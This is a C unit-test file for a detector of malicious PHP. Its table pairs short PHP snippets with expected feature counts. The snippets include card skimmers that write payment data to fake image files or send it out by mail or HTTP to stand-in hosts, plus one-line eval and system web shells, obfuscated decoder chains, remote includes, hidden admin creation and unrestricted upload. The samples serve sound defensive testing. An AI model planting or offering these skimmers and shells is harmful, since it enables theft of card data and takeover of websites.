/* Harmless imitations of what intruders leave behind, in PHP. */
#include "look.h"

static const struct look_case cases[] = {
    {"card data appended to a file named like an image", "pay.php",
     "<?php\n"
     "function save_card($o) {\n"
     "\t$d = $_POST['card_no'] . '|' . $_POST['cvv'] . \"\\n\";\n"
     "\tfile_put_contents(dirname(__FILE__) . '/../img/bg.jpg', base64_encode($d), "
     "FILE_APPEND);\n"
     "}\n",
     "{\"card_encoded\":1,\"card_to_file\":1,\"card_to_sink\":1,\"card_word\":2,\"encode\":1,"
     "\"file_write\":1,\"file_write_odd\":1,\"php_code\":1,\"request_read\":2}",
     "php"},
    {"the whole form by fopen and fwrite", "pay.php",
     "<?php\n"
     "$fp = fopen('/var/tmp/.cache', 'ab');\n"
     "fwrite($fp, json_encode($_POST) . PHP_EOL);\n"
     "fclose($fp);\n",
     "{\"card_to_file\":1,\"card_to_sink\":1,\"file_write\":2,\"file_write_odd\":1,\"php_"
     "code\":1,\"request_read\":1}",
     "php"},
    {"card data by mail", "pay.php",
     "<?php mail(\"a@mail.example.net\", \"s\", $_POST[\"card_number\"] . \" \" . "
     "$_POST[\"expiry_month\"]);",
     "{\"card_to_mail\":1,\"card_to_sink\":1,\"card_word\":2,\"mail_out\":1,\"php_code\":1,"
     "\"request_read\":2}",
     "php"},
    {"card data by curl", "pay.php",
     "<?php\n"
     "$c = curl_init();\n"
     "curl_setopt($c, CURLOPT_URL, \"https://api.host-one.net/v1\");\n"
     "curl_setopt($c, CURLOPT_POSTFIELDS, http_build_query(['n' => $_POST['cc_number'], 'c' => "
     "$_POST['cvc']]));\n"
     "curl_exec($c);\n",
     "{\"card_to_net\":1,\"card_to_sink\":1,\"card_word\":2,\"hosts\":1,\"net_out\":2,\"php_"
     "code\":1,\"request_read\":2}",
     "php"},
    {"through a function that stands below", "pay.php",
     "<?php\n"
     "keep(serialize($_POST));\n"
     "function keep($what) { error_log($what, 3, '/tmp/x.ico'); }\n",
     "{\"card_to_file\":1,\"card_to_sink\":1,\"file_write\":1,\"file_write_odd\":1,\"php_"
     "code\":1,\"request_read\":1}",
     "php"},
    {"through a property", "pay.php",
     "<?php\n"
     "class P {\n"
     "\tfunction a() { $this->line = $_POST['security_code']; }\n"
     "\tfunction b() { file_put_contents('x.css', $this->line); }\n"
     "}\n",
     "{\"card_to_file\":1,\"card_to_sink\":1,\"card_word\":1,\"file_write\":1,\"file_write_"
     "odd\":1,\"php_code\":1,\"request_read\":1}",
     "php"},
    {"through a string with variables", "pay.php",
     "<?php $n = $_POST[\"pan_number\"]; $s = \"n=$n&c={$_POST['cvc']}\"; "
     "file_get_contents(\"http://192.0.2.7/?\" . $s);",
     "{\"card_to_net\":1,\"card_to_sink\":1,\"card_word\":3,\"form_to_host\":1,\"host_ip\":1,"
     "\"hosts\":1,\"net_out\":1,\"php_code\":1,\"request_read\":2}",
     "php"},
    {"foreach over the form", "pay.php",
     "<?php foreach ($_POST as $k => $v) { $t .= \"$k=$v;\"; } fputs($h, $t);",
     "{\"card_to_file\":1,\"card_to_sink\":1,\"file_write\":1,\"php_code\":1,\"request_read\":"
     "1}",
     "php"},
    {"php://input", "pay.php",
     "<?php $r = file_get_contents(\"php://input\"); file_put_contents(\"a.png\", $r);",
     "{\"card_to_file\":1,\"card_to_sink\":1,\"file_write\":1,\"file_write_odd\":1,\"php_"
     "code\":1,\"request_body\":1}",
     "php"},
    {"Japanese keys", "pay.php", "<?php $d = $_POST[\"カード番号\"]; fwrite($f, $d);",
     "{\"card_to_file\":1,\"card_to_sink\":1,\"card_word\":1,\"file_write\":1,\"php_code\":1,"
     "\"request_read\":1}",
     "php"},
    {"one-line shell", "a.php", "<?php @eval($_POST[\"x\"]);",
     "{\"eval_code\":1,\"php_code\":1,\"request_read\":1,\"request_run\":1}", "php"},
    {"short tag shell", "a.php", "<?=`$_GET[0]`?>",
     "{\"php_code\":1,\"request_read\":1,\"request_run\":1,\"shell_run\":1}", "php"},
    {"shell by a function of the request", "a.php",
     "<?php $f = $_GET[\"f\"]; $f($_POST[\"c\"]);",
     "{\"dynamic_call\":1,\"php_code\":1,\"request_read\":2,\"request_run\":1}", "php"},
    {"shell in one call", "a.php", "<?php $_GET[\"a\"]($_GET[\"b\"]);",
     "{\"dynamic_call\":1,\"php_code\":1,\"request_read\":2,\"request_run\":1}", "php"},
    {"assert of a request", "a.php", "<?php assert($_REQUEST[\"q\"]);",
     "{\"eval_old\":1,\"php_code\":1,\"request_read\":1,\"request_run\":1}", "php"},
    {"create_function", "a.php", "<?php $x = create_function(\"\", $_POST[\"c\"]); $x();",
     "{\"dynamic_call\":1,\"eval_old\":1,\"php_code\":1,\"request_read\":1,\"request_run\":1}",
     "php"},
    {"preg_replace /e", "a.php", "<?php preg_replace(\"/.*/e\", $_POST[\"z\"], \"\");",
     "{\"eval_old\":1,\"php_code\":1,\"request_read\":1,\"request_run\":1}", "php"},
    {"a callback of the request", "a.php",
     "<?php call_user_func($_GET[\"a\"], $_GET[\"b\"]); array_map($_GET[\"f\"], $x);",
     "{\"callback_call\":1,\"php_code\":1,\"request_read\":3,\"request_run\":2}", "php"},
    {"system with a request inside", "a.php",
     "<?php system(\"ls \" . $_REQUEST[\"d\"]); passthru(base64_decode($_COOKIE[\"c\"]));",
     "{\"decode\":1,\"php_code\":1,\"request_read\":2,\"request_run\":2,\"shell_run\":2}",
     "php"},
    {"include of a request", "a.php", "<?php include $_GET[\"page\"];",
     "{\"include_variable\":1,\"php_code\":1,\"request_read\":1,\"request_run\":1}", "php"},
    {"a decoder chain", "a.php",
     "<?php eval(gzinflate(str_rot13(base64_decode(\"tVZNb9swDL3/CsHoYVvS\"))));",
     "{\"decode\":3,\"decode_chain\":3,\"decoded_run\":1,\"eval_code\":1,\"php_code\":1}",
     "php"},
    {"decoded, then run", "a.php",
     "<?php $c = base64_decode($x); $d = gzuncompress($c); eval(\"?>\" . $d);",
     "{\"decode\":2,\"decoded_run\":1,\"eval_code\":1,\"php_code\":1}", "php"},
    {"hidden code in base64", "a.php", "<?php $x = \"PD9waHAgZXZhbCgkX1BPU1RbMV0pOw==\";",
     "{\"hidden_code\":1,\"php_code\":1}", "php"},
    {"hidden address in hexadecimal", "a.php",
     "<?php $u = hex2bin(\"68747470733a2f2f6576696c2e686f73742e6e65742f61\");",
     "{\"decode\":1,\"hidden_url\":1,\"hosts\":1,\"php_code\":1}", "php"},
    {"a name in pieces", "a.php",
     "<?php $f = \"base\" . \"64_de\" . \"code\"; $g = \"as\".\"sert\"; $g($f($_POST[\"a\"]));",
     "{\"dynamic_call\":2,\"eval_old\":1,\"php_code\":1,\"request_read\":1,\"request_run\":2,"
     "\"split_name\":2}",
     "php"},
    {"a name backwards", "a.php",
     "<?php $f = strrev(\"lave\"); $g = str_rot13(\"flfgrz\"); $g(\"id\");",
     "{\"decode\":1,\"decoded_run\":1,\"dynamic_call\":1,\"eval_old\":1,\"php_code\":1,\"split_"
     "name\":2}",
     "php"},
    {"a name of escapes", "a.php",
     "<?php $f = \"\\x73\\x79\\x73\\x74\\x65\\x6d\"; $f($_GET[\"c\"]);",
     "{\"dynamic_call\":1,\"eval_old\":1,\"php_code\":1,\"request_read\":1,\"request_run\":1}",
     "php"},
    {"chr chains and xor", "a.php",
     "<?php $f = chr(115).chr(121).chr(115); for (;;) { $o .= chr(ord($s[$i]) ^ ord($k[$i % "
     "4])); }",
     "{\"char_build\":3,\"php_code\":1,\"xor_loop\":1}", "php"},
    {"variable variables, goto", "a.php",
     "<?php ${\"GLOB\" . \"ALS\"}[\"a\"] = 1; $$x = 2; goto b; b: goto c; c: ;",
     "{\"goto_jumps\":2,\"php_code\":1,\"variable_variables\":2}", "php"},
    {"code behind blanks", "a.php",
     "<?php                                                                                    "
     "                                                                                         "
     "                           eval($x); $a = 1; $b = 22222;\n"
     "echo 1;",
     "{\"eval_code\":1,\"far_right\":1,\"php_code\":1}", "php"},
    {"names of an obfuscator", "a.php",
     "<?php $OO0O00O = $O0OO00O($lIl1I); $OO0O0OO = $O0OO0OO($lIl1I); $OO0O000 = "
     "$O0OO000($lIl1I); $OO0O0O0 = $O0OO0O0($lIl1I); $OO0O00OO = $O0OO00OO($lIl1I); $OO0O0OOO "
     "= $O0OO0OOO($lIl1I); $OO0O0O00 = $O0OO0O00($lIl1I); $OO0O00O0 = $O0OO00O0($lIl1I); "
     "$OO0O000O = $O0OO000O($lIl1I); $OO0O0000 = $O0OO0000($lIl1I);",
     "{\"dynamic_call\":10,\"longest_line\":307,\"odd_names\":100,\"php_code\":1}", "php"},
    {"image included as a program", "a.php",
     "<?php include \"../upload/logo.png\"; @require_once(ABSPATH . \"fonts/.x.ico\");",
     "{\"include_odd\":2,\"include_variable\":1,\"php_code\":1}", "php"},
    {"code from another server", "a.php", "<?php include \"http://host-one.net/a.txt\";",
     "{\"hosts\":1,\"include_remote\":1,\"php_code\":1}", "php"},
    {"errors off, dates back", "a.php",
     "<?php error_reporting(0); ini_set(\"display_errors\", 0); set_time_limit(0); "
     "ignore_user_abort(true); touch($f, filemtime(\"index.php\")); phpinfo();",
     "{\"error_hide\":2,\"file_times\":1,\"php_code\":1,\"run_on\":2,\"system_info\":1}",
     "php"},
    {"customers and administrators", "a.php",
     "<?php $q = \"SELECT * FROM dtb_customer\"; $r = \"INSERT INTO dtb_member (login, "
     "password) VALUES (1, 2)\"; wp_insert_user($u);",
     "{\"admin_create\":2,\"password_word\":1,\"php_code\":1,\"sql_persons\":1,\"sql_write\":"
     "1}",
     "php"},
    {"only for some visitors", "a.php",
     "<?php if (strpos($_SERVER[\"HTTP_USER_AGENT\"], \"bot\") === false && "
     "isset($_COOKIE[\"k\"])) { eval(base64_decode($_COOKIE[\"k\"])); }",
     "{\"decode\":1,\"eval_code\":1,\"php_code\":1,\"request_read\":2,\"request_run\":1,"
     "\"visitor_test\":3}",
     "php"},
    {"upload of anything", "a.php",
     "<?php move_uploaded_file($_FILES[\"f\"][\"tmp_name\"], \"../html/\" . "
     "$_FILES[\"f\"][\"name\"]); copy($a, \"shell.php\"); chmod(\"x\", 0777);",
     "{\"file_mode\":1,\"file_write\":1,\"file_write_code\":1,\"php_code\":1,\"upload_move\":1,"
     "\"upload_read\":2,\"visitor_file\":1}",
     "php"},
    {"a card object", "pay.php",
     "<?php function charge(Card $card) { $c = base64_encode(json_encode([$card->number, "
     "$card->code])); @file_put_contents(__DIR__ . \"/../up/thumb_01.jpg\", $c . \"\\n\", "
     "FILE_APPEND); }",
     "{\"card_encoded\":1,\"card_to_file\":1,\"card_to_sink\":1,\"encode\":1,\"file_write\":1,"
     "\"file_write_odd\":1,\"php_code\":1}",
     "php"},
    {"a closure that reads the form", "pay.php",
     "<?php $text = fn ($k) => trim($form[$k]); fputs($h, $text(\"card_number\"));",
     "{\"card_to_file\":1,\"card_to_sink\":1,\"card_word\":1,\"file_write\":1,\"php_code\":1}",
     "php"},
};

static void test_php_harm(void **state)
{
	(void)state;
	LOOK_CHECK(cases);
}

int main(void)
{
	const struct CMUnitTest tests[] = {cmocka_unit_test(test_php_harm)};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
